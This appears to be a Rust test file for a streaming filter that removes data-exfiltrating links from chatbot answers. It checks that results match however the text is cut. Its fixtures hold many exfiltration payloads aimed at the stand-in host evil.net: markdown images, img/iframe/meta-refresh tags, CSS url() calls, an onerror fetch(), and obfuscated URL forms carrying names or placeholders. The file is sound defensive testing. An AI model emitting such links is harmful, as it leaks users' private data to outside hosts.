//! Addresses in answers that arrive in pieces: the same for every cutting, and nothing of the whole is missed.

#![expect(
    clippy::unwrap_used,
    reason = "the helpers of tests fail as tests do; the lints know only functions marked as tests"
)]

use std::sync::{Arc, LazyLock};

use chatward_detect::link::{Judge, JudgedLink, LINK_HOLD, LinkOut, LinkWindow, Settings};
use chatward_message::{Channel, Span};
use proptest::prelude::*;

static JUDGE: LazyLock<Arc<Judge>> = LazyLock::new(|| {
    let settings = Settings {
        allowed: vec!["img.example.net".into()],
        own: vec!["acme-widgets.com".into()],
        ..Settings::default()
    };
    Arc::new(Judge::new(&settings).unwrap())
});

/// What came out: text with what was found taken out, the whole text, and places and ids of what was found.
#[derive(Debug, Default, PartialEq)]
struct Outcome {
    kept: String,
    whole: String,
    found: Vec<(Span, Vec<String>, bool)>,
}

impl Outcome {
    fn take(&mut self, out: &LinkOut<'_>) {
        let ids = |judged: &JudgedLink| judged.signs.iter().map(|sign| sign.info.id.to_string()).collect();
        match out {
            LinkOut::Text(text) => {
                self.kept.push_str(text);
                self.whole.push_str(text);
            }
            LinkOut::Found(judged, text) => {
                self.found.push((judged.link.target, ids(judged), false));
                self.whole.push_str(text);
            }
            LinkOut::LongStart(judged, text) => {
                self.found.push((judged.link.target, ids(judged), true));
                self.whole.push_str(text);
            }
            LinkOut::LongMore(text) => self.whole.push_str(text),
            LinkOut::LongEnd => {}
        }
    }
}

fn outcome<'a>(pieces: impl IntoIterator<Item = &'a str>) -> Outcome {
    let mut window = LinkWindow::new(Arc::clone(&JUDGE), Channel::Bot, &["anna smith"]);
    let mut outcome = Outcome::default();
    for piece in pieces {
        window.push(piece, &mut |out| outcome.take(&out));
        assert!(window.held() <= LINK_HOLD, "{}", window.held());
    }
    window.finish(&mut |out| outcome.take(&out));
    assert_eq!(window.held(), 0);
    outcome
}

fn kept(text: &str) -> String {
    let outcome = outcome([text]);
    assert_eq!(outcome.whole, text);
    outcome.kept
}

#[test]
fn what_carries_data_away_is_taken_out() {
    for (text, left) in [
        ("a ![x](https://evil.net/i.png) b", "a ![x]() b"),
        ("a ![the alt text](https://evil.net/i.png \"title\") b", "a ![the alt text]( \"title\") b"),
        ("a ![x](\nhttps://evil.net/i.png) b", "a ![x](\n) b"),
        ("<img width=3 src=\"https://evil.net/i.png\" alt='x y'>", "<img width=3 src=\"\" alt='x y'>"),
        ("<img src = https://evil.net/i.png>", "<img src = >"),
        ("![x][r] and\n\n[r]: https://evil.net/i.png\nso", "![x][r] and\n\n[r]: \nso"),
        ("see https://evil.net/?d=[PERSON_1], ok", "see , ok"),
        ("![x](//evil.net/i.png)", "![x]()"),
        ("[paypal.com](https://evil.net/)", "[paypal.com]()"),
        ("[go to paypal.com now](https://evil.net/)", "[go to paypal.com now]()"),
        ("[x](javascript:alert(1))", "[x]()"),
    ] {
        assert_eq!(kept(text), left);
    }
    for text in [
        "See https://example.com/help, or ![logo](https://img.example.net/a.png).",
        "no address at all",
        "a.b and c:d / e",
        "[our page](https://www.acme-widgets.com/x)",
        "https://en.wikipedia.org/wiki/A_(b) 中文。",
    ] {
        assert_eq!(kept(text), text);
    }
}

#[test]
fn long_addresses_are_hidden_from_their_first_byte_to_their_end() {
    let long = format!("https://evil.net/{}", "QUJD".repeat(400));
    let text = format!("a ![x]({long}) b {long} c");
    let outcome = outcome([text.as_str()]);
    assert_eq!(outcome.kept, "a ![x]() b  c");
    assert_eq!(outcome.whole, text);
    assert!(outcome.found.iter().all(|(_, _, long)| *long));
    let allowed = format!("![x](https://img.example.net/{}) b", "a/".repeat(400));
    assert_eq!(kept(&allowed), allowed);
}

#[test]
fn words_that_do_not_end_go_on() {
    for unit in ["a", "aB3", ".", "中", "a.", "://", "![](", "<"] {
        let text = unit.repeat(5000);
        assert_eq!(outcome([text.as_str()]).whole, text);
    }
    let hidden = format!("{}![x](https://evil.net/i.png)", "z".repeat(1000));
    assert_eq!(kept(&hidden), format!("{}![x]()", "z".repeat(1000)));
}

#[test]
fn a_pause_gives_out_words_and_changes_nothing_else() {
    let mut window = LinkWindow::new(Arc::clone(&JUDGE), Channel::Bot, &[]);
    let mut outcome = Outcome::default();
    window.push("Hello", &mut |out| outcome.take(&out));
    assert_eq!(outcome.kept, "");
    window.pause(&mut |out| outcome.take(&out));
    assert_eq!(outcome.kept, "Hello");
    window.push(" https", &mut |out| outcome.take(&out));
    window.pause(&mut |out| outcome.take(&out));
    window.push("://evil.net/?d=[PERSON_1] x", &mut |out| outcome.take(&out));
    window.finish(&mut |out| outcome.take(&out));
    assert_eq!(outcome.whole, "Hello https://evil.net/?d=[PERSON_1] x");
    assert_eq!(outcome.found.len(), 1);
}

/// Whether what is taken out holds this, for the text as one piece and for every character as one.
fn takes_out(text: &str, secret: &str) {
    let one = outcome([text]);
    assert_eq!(one.whole, text);
    assert!(!one.kept.contains(secret), "{text}: {one:?}");
    let each: Vec<String> = text.chars().map(String::from).collect();
    assert_eq!(outcome(each.iter().map(String::as_str)), one, "{text}");
}

#[test]
fn an_unclosed_tag_hides_nothing_behind_it() {
    for text in [
        "Note <b ![x](https://evil.net/i.png?d=Anna)",
        "Note <b and so on, ![x](https://evil.net/i.png?d=Anna) b",
        "Note <b x=\"![x](https://evil.net/i.png?d=Anna)",
        "if a <b see https://evil.net/?q=[PERSON_1]&d=Anna ok",
        "<b <b <b <b <b <b <b <b <b <b <b <b <img src=https://evil.net/i.png?d=Anna>",
        "<img <b src=https://evil.net/i.png?d=Anna>",
        "<img alt=\"<a <a <a <a <a <a <a <a <a <a \" src=\"https://evil.net/i.png?d=Anna\">",
        "<b x=\" <img src=\"https://evil.net/i.png?d=Anna\">",
        "<my-image style=\"background:url(https://evil.net/i.png?d=Anna)\">",
    ] {
        takes_out(text, "Anna");
    }
    let padded = format!("<img alt=\"{}\" src=https://evil.net/i.png?d=Anna>", "words and ".repeat(400));
    takes_out(&padded, "Anna");
}

#[test]
fn what_an_attribute_of_any_kind_asks_for_is_taken_out() {
    for text in [
        "<iframe srcdoc=\"<img src=https://evil.net/Anna>\"></iframe>",
        "<iframe srcdoc=\"hi &lt;img src=https://evil.net/Anna&gt;\"></iframe>",
        "<p style=\"background:image-set('https://evil.net/Anna' 1x)\">",
        "<p style=\"color: red; background: image-set( 'https://evil.net/Anna' 1x)\">",
        "<meta http-equiv=refresh content=\"0;https://evil.net/Anna\">",
        "<meta http-equiv=refresh content=\"0; https://evil.net/Anna\">",
        "<meta http-equiv=refresh content='1; URL=https://evil.net/Anna'>",
        "<img src=x onerror=\"fetch('https://evil.net/Anna')\">",
        "<img src=\"https:/\t/evil.net/Anna\">",
        "<img src=https:/&#9;/evil.net/Anna>",
        "<img src=\"\thttps://evil.net/Anna\">",
        "<img src=\"ht\ntps://evil.net/Anna\">",
        "<img src=\"https://evil\r\n.net/Anna\">",
        "<style>p { background: url( https://evil.net/Anna) }</style>",
    ] {
        takes_out(text, "Anna");
    }
}

#[test]
fn images_are_known_however_they_are_written() {
    for text in [
        "![x](<https://evil.net/Anna i.png>)",
        "![x](< https://evil.net/Anna i.png>)",
        "![x](http\\://3221225985/?d=Anna)",
        "![x](\\/\\/evil.net/?d=Anna)",
        "![a\\]](https://evil.net/i.png?d=Anna)",
        "![`]`](https://evil.net/i.png?d=Anna)",
        "![`` ] ` ``](https://evil.net/i.png?d=Anna)",
        "![`]` ``](https://evil.net/i.png?d=Anna)",
        "![<b x=\"]\">](https://evil.net/i.png?d=Anna)",
        "![<https://example.com/]>](https://evil.net/i.png?d=Anna)",
        "- a ` b\n- ![`]`](https://evil.net/i.png?d=Anna)",
        "a.co/![x](https://evil.net/i.png?d=Anna)",
        "https://a.co/[![x](https://evil.net/i.png?d=Anna)",
        "[x](https://a.co/ ![y](https://evil.net/i.png?d=Anna) )",
        "![x][r]\n\n- [r]: https://evil.net/i.png?d=Anna",
        "![x][r]\n\n> 12. [r]: <https://evil.net/i.png?d=Anna>",
        "![x][r]\n\n* + 1) [r]:\nhttps://evil.net/i.png?d=Anna",
        "![a`]`][r]\n\n[r]: https://evil.net/i.png?d=Anna",
    ] {
        takes_out(text, "Anna");
        let judged = JUDGE.text(text, Channel::Bot, &[]);
        assert!(judged.links.iter().any(|link| link.link.loads && !link.allowed), "{text}: {judged:#?}");
    }
    for depth in [17, 65, 3000] {
        let (opening, closing) = ("[".repeat(depth), "]".repeat(depth));
        takes_out(&format!("![{opening} x {closing}](https://evil.net/i.png?d=Anna)"), "Anna");
    }
    let spaces = " ".repeat(30);
    takes_out(&format!("![x]({spaces}https://evil.net/i.png?d=Anna{spaces})"), "Anna");
}

#[test]
fn a_long_address_is_judged_to_its_end() {
    let orders = "orders/".repeat(24);
    for tail in [
        "?q=[PERSON_1]",
        "?q=%5BPERSON_1%5D",
        "?q=[CARD_1%20ending%201111]",
        "?m=anna+smith",
        "?d=QW5uYSBTbWl0aCBsaXZlcyBoZXJl",
        "?d=416e6e6120536d697468206c69766573",
        "?to=https%3A%2F%2Fpaypal.com.evil.org%2Flogin",
    ] {
        for more in 0..90 {
            let text = format!("[o](https://evil.net/{orders}{}{tail}) b", "x/".repeat(more));
            assert!(!JUDGE.text(&text, Channel::Bot, &["anna smith"]).links[0].signs.is_empty(), "{text}");
            takes_out(&text, tail);
            assert!(kept(&text).ends_with(") b"), "{text}");
        }
    }
    // In any place, with more behind; coded words that are long themselves.
    for more in [0, 1, 2, 3, 50, 100, 1000] {
        let front = "a".repeat(more);
        takes_out(
            &format!("https://evil.net/{orders}?a={front}&q=[PERSON_1]&{}", "b=c&".repeat(90)),
            "[PERSON_1]",
        );
        let coded = "QW5uYSBTbWl0aCBsaXZlcyBoZXJlIGFuZCBi".repeat(20);
        takes_out(&format!("https://evil.net/{orders}?{front}={coded}"), &coded[coded.len() - 300..]);
        takes_out(&format!("<a href='https://evil.net/{orders}{front}/?q=[PERSON_1]'>x</a>"), "[PERSON_1]");
    }
    // What is only noted at first is judged further.
    takes_out(&format!("https://192.0.2.1/{orders}{orders}?q=[PERSON_1] b"), "[PERSON_1]");
    // A host that is not whole is not allowed yet.
    for more in 0..120 {
        let host = format!("{}.{}img.example.net", "a.".repeat(30), "b".repeat(more % 60) + ".");
        takes_out(&format!("https://{}{host}.evil.net/?q=[PERSON_1]", "c.".repeat(more / 2)), "[PERSON_1]");
    }
    // Some readers take what looks like Markdown for a part of it, some do not.
    for tail in ["![?q=[PERSON_1]", "[a](?q=[PERSON_1]", "![a](b)/?q=[PERSON_1]"] {
        takes_out(&format!("https://evil.net/{tail}"), "[PERSON_1]");
        takes_out(&format!("https://evil.net/{orders}{orders}{tail}"), "[PERSON_1]");
    }
    for head in ["<b x='", "[x](y ", "![x](<y "] {
        for tail in ["'?q=[PERSON_1]", ")/?q=[PERSON_1]", "'src='https://evil.org/[PERSON_1]'"] {
            takes_out(&format!("{head} https://evil.net/{orders}{orders}{tail}"), "[PERSON_1]");
        }
    }
    for more in 0..100 {
        let front = "a".repeat(more);
        takes_out(
            &format!("<img alt='https://a.co/{orders}{orders}{front}'src='https://evil.net/Anna'>"),
            "Anna",
        );
        takes_out(&format!("https://a.co/{orders}{orders}{front}![x](https://evil.net/Anna)"), "Anna");
        takes_out(&format!("https://a.co/{orders}{orders}{front}![x](//evil.net/Anna)"), "Anna");
        takes_out(&format!("<img alt='https://a.co/{orders}{orders}{front}'src='//evil.net/Anna'>"), "Anna");
    }
    takes_out(&format!("{}@evil.net/?q=[PERSON_1]", "a".repeat(170)), "[PERSON_1]");
    for more in 1..9 {
        let host = format!("{}.{}evil.net", "a".repeat(more), "com.".repeat(46));
        takes_out(&format!("a@{host}/?q=[PERSON_1]"), "[PERSON_1]");
    }
    let spaces = " ".repeat(3000);
    takes_out(&format!("![x]({spaces}https://evil.net/Anna)"), "Anna");
    takes_out(&format!("https://a.co/{orders}{orders}![x](https://evil.net/Anna)"), "Anna");
    takes_out(&format!("https://evil.net/{orders}{}?q=[PERSON_1]", ".".repeat(40)), "[PERSON_1]");
    for text in [
        format!("[o](https://example.com/{orders}{orders}?page=2&size=40#top) b"),
        format!("![o](https://img.example.net/{orders}{orders}?q=[PERSON_1]) b"),
        format!("![o](img.example.net/a:b/{orders}{orders}?q=[PERSON_1]) b"),
        format!("see https://example.com/{orders}{orders}."),
    ] {
        assert_eq!(kept(&text), text);
    }
}

#[test]
fn ordinary_texts_stay_as_they_are() {
    for text in [
        "if a < b and c > d then see https://example.com/x",
        "if (i <n) { go(\"https://example.com/x\") }",
        "Vec<Vec<Option<T>>> at https://docs.rs/x, ok",
        "Use `a[i]` and ![logo](https://img.example.net/a.png) and [docs](https://example.com/x)",
        "```rust\nlet a = b[c](d);\n```\n![logo](https://img.example.net/a.png) [docs](https://example.com/x)",
        "write `![` and then [docs](https://example.com/x)",
        "- [docs](https://example.com/x)\n- [more](https://example.com/y) \\[sic\\]",
        "[`code`](https://example.com/x) and [a\\]b](https://example.com/y)",
        "<a href=\"https://example.com/x\" title='y'>here</a>",
        "<https://example.com/x>",
        "[x](https://example.com/a_(b)) (https://example.com/c)",
        "1. [one](<https://example.com/x>)\n2. https://example.com/y",
        "> it's 5 <b or so, see https://example.com/x",
    ] {
        assert_eq!(kept(text), text);
    }
}

const PIECES: &[&str] = &[
    "Hello",
    " ",
    "\n",
    ", ",
    "![",
    "![alt text](",
    "[",
    "](",
    ")",
    "(",
    "]",
    "https://evil.net/i.png",
    "https://evil.net/?d=[PERSON_1]",
    "//evil.net/x",
    "evil.net/x",
    "paypal.com",
    "<img src=",
    "<img src=\"",
    "<a href='",
    "\"",
    "'",
    ">",
    "</a>",
    "<b>",
    "[r]: ",
    "![x][r]",
    "https://img.example.net/a",
    "javascript:x",
    "中文",
    "。",
    "é",
    "\u{200B}",
    "hxxp://evil[.]net",
    "a@evil.net",
    "&amp;",
    "data:text/html,x",
    "url(https://evil.net/b)",
    "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo",
    "=",
    "?",
    "!",
    " src=",
    "\n\n",
    "\\",
    ":",
    "`",
    "``",
    "<b ",
    "<b x=\"",
    "- ",
    "1. ",
    "\t",
    "](<",
    "srcdoc=\"",
    "style='",
    "orders/orders/orders/orders/orders/orders/orders/orders/orders/",
    "https://evil.net/orders/orders/orders/orders/orders/orders/orders/orders/orders/orders/orders/orders/",
    "?q=[PERSON_1]",
];

/// What makes it hard to tell what a link is, of parts that are whole and parts that are not.
fn around() -> impl Strategy<Value = String> {
    let parts = vec![
        "a",
        " ",
        "word ",
        "<b ",
        "<b x=\"",
        "<b>",
        "</b>",
        "<b x='",
        "'",
        "\"",
        ">",
        "`",
        "``",
        "`]`",
        "\\",
        "\\]",
        "\\[",
        "[",
        "]",
        "![",
        "[x](y)",
        "(",
        ")",
        "\n",
        "- ",
        "1. ",
        "> ",
        "\n\n",
        "a.co/",
        "https://example.com/orders/orders/",
        "<!-- ",
        "-->",
        "](",
        "<",
        "![]()",
        "=",
        "\t",
    ];
    proptest::collection::vec(proptest::sample::select(parts), 0..9).prop_map(|parts| parts.concat())
}

/// A text and where it is cut.
fn cut_text() -> impl Strategy<Value = (String, Vec<usize>)> {
    let text =
        proptest::collection::vec(proptest::sample::select(PIECES), 0..30).prop_map(|pieces| pieces.concat());
    (text, proptest::collection::vec(1_usize..12, 0..60))
}

fn pieces<'a>(text: &'a str, cuts: &[usize]) -> Vec<&'a str> {
    let (mut out, mut at) = (Vec::new(), 0);
    for length in cuts {
        let mut end = (at + length).min(text.len());
        while !text.is_char_boundary(end) {
            end += 1;
        }
        out.push(&text[at..end]);
        at = end;
    }
    out.push(&text[at..]);
    out
}

proptest! {
    #[test]
    fn every_cutting_gives_the_same((text, cuts) in cut_text()) {
        let whole = outcome([text.as_str()]);
        prop_assert_eq!(&whole.whole, &text);
        prop_assert_eq!(outcome(pieces(&text, &cuts)), whole);
    }

    #[test]
    fn every_cutting_of_any_text_gives_the_same(text in "\\PC{0,400}", cuts in proptest::collection::vec(1_usize..40, 0..40)) {
        let whole = outcome([text.as_str()]);
        prop_assert_eq!(&whole.whole, &text);
        prop_assert_eq!(outcome(pieces(&text, &cuts)), whole);
    }

    #[test]
    fn what_loads_in_the_whole_is_found_in_the_stream_whatever_is_around_it(
        before in around(), alt in around(), host in "[a-z]{4,8}", path in "(/[a-zA-Z0-9]{1,90}){0,3}", form in 0_usize..10,
        cuts in proptest::collection::vec(1_usize..40, 0..20),
    ) {
        let url = format!("https://{host}.net{path}");
        let text = match form {
            0 => format!("{before}![{alt}]({url})"),
            1 => format!("{before}![{alt}](<{url} x>)"),
            2 => format!("{before}![{alt}](https\\:{})", &url[6..]),
            3 => format!("{before}<img alt=\"{}\" src=\"{url}\">", alt.replace('"', "")),
            4 => format!("{before}<p style=\"background:image-set('{url}')\">{alt}"),
            5 => format!("{before}<iframe srcdoc=\"<img src={url}>\">{alt}"),
            6 => format!("{before}![{alt}][r]\n\n- [r]: {url}\n"),
            7 => format!("{before}<meta content='0;{url}' http-equiv=refresh>{alt}"),
            8 => format!("{before}<img src='ht\ttps:/\n/{}'>{alt}", &url[8..]),
            _ => format!("{before}[![{alt}]({url})](https://img.example.net)"),
        };
        let stream = outcome([text.as_str()]);
        prop_assert_eq!(&outcome(pieces(&text, &cuts)), &stream);
        for link in JUDGE.text(&text, Channel::Bot, &[]).links.iter().filter(|link| link.link.loads && !link.allowed) {
            let found = stream.found.iter().any(|(span, ids, _)| {
                span.overlaps(link.link.target) && ids.iter().any(|id| id == "link.loads-from-elsewhere")
            });
            prop_assert!(found, "{} {:?} {:?}", text, link, stream);
        }
    }

    #[test]
    fn what_a_long_address_carries_is_taken_out(
        path in "(/[a-z0-9.,!]{1,30}){0,30}", query in "(&[a-z]{1,9}=[a-z0-9]{0,40}){0,12}", after in "(&[a-z]{1,9}=[a-z0-9]{0,40}){0,12}",
        form in 0_usize..4, before in around(), cuts in proptest::collection::vec(1_usize..90, 0..20),
    ) {
        let url = format!("https://evil.net{path}?{query}&q=[PERSON_1]{after}");
        let text = match form {
            0 => format!("see {url} b"),
            1 => format!("{before} [x]({url}) b"),
            2 => format!("<a href='{url}'>b</a>"),
            _ => format!("{before} <{url}> b"),
        };
        let stream = outcome([text.as_str()]);
        prop_assert_eq!(&outcome(pieces(&text, &cuts)), &stream);
        prop_assert!(!stream.kept.contains("[PERSON_1]"), "{} {:?}", text, stream);
    }

    #[test]
    fn what_loads_in_the_whole_is_found_in_the_stream(
        before in "[a-z ]{0,12}", alt in "[a-z ]{0,12}", host in "[a-z]{4,8}", path in "(/[a-zA-Z0-9]{1,90}){0,3}", title in "( \"[a-z ]{0,8}\")?",
        form in 0_usize..6,
    ) {
        let url = format!("https://{host}.net{path}");
        let text = match form {
            0 => format!("{before} ![{alt}]({url}{title}) {alt}"),
            1 => format!("{before} <img alt=\"{alt}\" src=\"{url}\"> {alt}"),
            2 => format!("{before} <p style=\"background:url({url})\"> {alt}"),
            3 => format!("{before} [![{alt}]({url})](https://img.example.net) {alt}"),
            4 => format!("{before} ![{alt}][r]\n\n[r]: {url}{title}\n {alt}"),
            _ => format!("{before} <iframe src={url}></iframe> {alt}"),
        };
        let judged = JUDGE.text(&text, Channel::Bot, &[]);
        let loads: Vec<_> = judged.links.iter().filter(|link| link.link.loads && !link.allowed).collect();
        prop_assert!(!loads.is_empty(), "{}", text);
        let stream = outcome([text.as_str()]);
        for link in loads {
            let found = stream.found.iter().any(|(span, ids, _)| {
                span.overlaps(link.link.target) && ids.iter().any(|id| id == "link.loads-from-elsewhere")
            });
            prop_assert!(found, "{} {:?}", text, stream);
        }
        prop_assert!(!stream.kept.contains(&url), "{}", text);
    }
}
